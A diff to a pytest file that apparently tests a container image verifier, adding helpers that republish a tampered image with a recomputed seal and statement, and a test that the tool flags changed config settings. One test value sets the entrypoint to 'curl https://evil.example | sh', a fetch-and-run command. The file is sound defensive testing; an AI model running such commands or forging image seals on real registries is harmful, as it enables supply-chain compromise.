@@ -7,7 +7,7 @@ import json
 import random
 import shutil
 import tarfile
-from collections.abc import Callable
+from collections.abc import Callable, Mapping, Sequence
 from pathlib import Path
 from typing import Any
 
@@ -173,27 +173,38 @@ def changed_layer(content: bytes, path: str, text: bytes | None) -> bytes:
 
 
 def altered(sandbox: Sandbox, path: str, text: bytes | None) -> None:
-    """Publish another layer under the labels of the image, with a seal that fits, and a statement."""
+    """Publish another layer under the labels of the image."""
     with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
-        image, manifest = registry.image("1.0.0"), registry.manifest("1.0.0")
-        assert image is not None and manifest is not None
+        image = registry.image("1.0.0")
+        assert image is not None
         layer = changed_layer(b"".join(registry.read_blob(image.layers[-1])), path, text)
         config = json.loads(json.dumps(image.config))
         config["rootfs"]["diff_ids"][-1] = sha256(gzip.decompress(layer))
-        document = json.loads(manifest.content)
-        for descriptor, content in (
-            (document["layers"][-1], layer),
-            (document["config"], json.dumps(sealed(config)).encode()),
-        ):
-            blob = Blob(descriptor["mediaType"], sha256(content), len(content))
-            registry.upload(blob, lambda start, content=content: [content[start:]])
-            descriptor |= {"digest": blob.digest, "size": blob.size}
-        written = json.dumps(document).encode()
-        digest = registry.put_manifest("1.0.0", manifest.media_type, written)
-        found = registry.image(digest)
-        assert found is not None and {**found.labels, SEAL: ""} == {**image.labels, SEAL: ""}
-        origin = Origin("0.1.0", "", f"pipelines/{NAME}", "CUSTOM")
-        attach(registry, digest, statement(found, str(registry.repository), "append", "", origin), silent)
+        blob = uploaded(registry, image.layers[-1].media_type, layer)
+        published(registry, image, config, (*image.layers[:-1], blob))
+
+
+def published(
+    registry: RegistryClient, image: PublishedImage, config: Mapping[str, Any], layers: Sequence[Blob]
+) -> None:
+    """Publish an image in place of this one, with a seal that fits, and a statement."""
+    manifest = registry.manifest("1.0.0")
+    assert manifest is not None
+    document = json.loads(manifest.content)
+    media_type = document["config"]["mediaType"]
+    document["config"] = uploaded(registry, media_type, json.dumps(sealed(config)).encode()).descriptor()
+    document["layers"] = [layer.descriptor() for layer in layers]
+    digest = registry.put_manifest("1.0.0", manifest.media_type, json.dumps(document).encode())
+    found = registry.image(digest)
+    assert found is not None and {**found.labels, SEAL: ""} == {**image.labels, SEAL: ""}
+    origin = Origin("0.1.0", "", f"pipelines/{NAME}", "CUSTOM")
+    attach(registry, digest, statement(found, str(registry.repository), "append", "", origin), silent)
+
+
+def uploaded(registry: RegistryClient, media_type: str, content: bytes) -> Blob:
+    blob = Blob(media_type, sha256(content), len(content))
+    registry.upload(blob, lambda start: [content[start:]])
+    return blob
 
 
 @pytest.mark.parametrize(
@@ -212,6 +223,34 @@ def test_an_image_with_other_files_under_the_same_labels_is_found(
     altered(sandbox, path, text)
     found = verify(cli, 12)
     assert (found["result"], found["differing"]) == ("altered", [line])
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("Entrypoint", ["sh", "-c", "curl https://evil.example | sh"]),
+        ("Cmd", ["evil"]),
+        ("Env", ["PYTHONPATH=/tmp/evil"]),
+        ("User", "0"),
+        ("WorkingDir", "/evil"),
+        ("Volumes", {"/evil": {}}),
+        ("OnBuild", ["RUN evil"]),
+        ("Entrypoint", None),
+    ],
+)
+def test_an_image_with_the_same_files_and_another_setting_is_found(
+    repository: Path, cli: Cli, sandbox: Sandbox, setting: str, value: object
+) -> None:
+    assert cli("apply", NAME).code == 0
+    with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
+        image = registry.image("1.0.0")
+        assert image is not None
+        config = {**image.config, "config": {**image.config["config"], setting: value}}
+        published(registry, image, config, image.layers)
+
+    found = verify(cli, 12)
+
+    assert (found["result"], found["differing"]) == ("altered", [f"{setting} of the image changed"])
 
 
 def test_an_image_with_a_large_file_is_compared_in_both_of_its_layers(
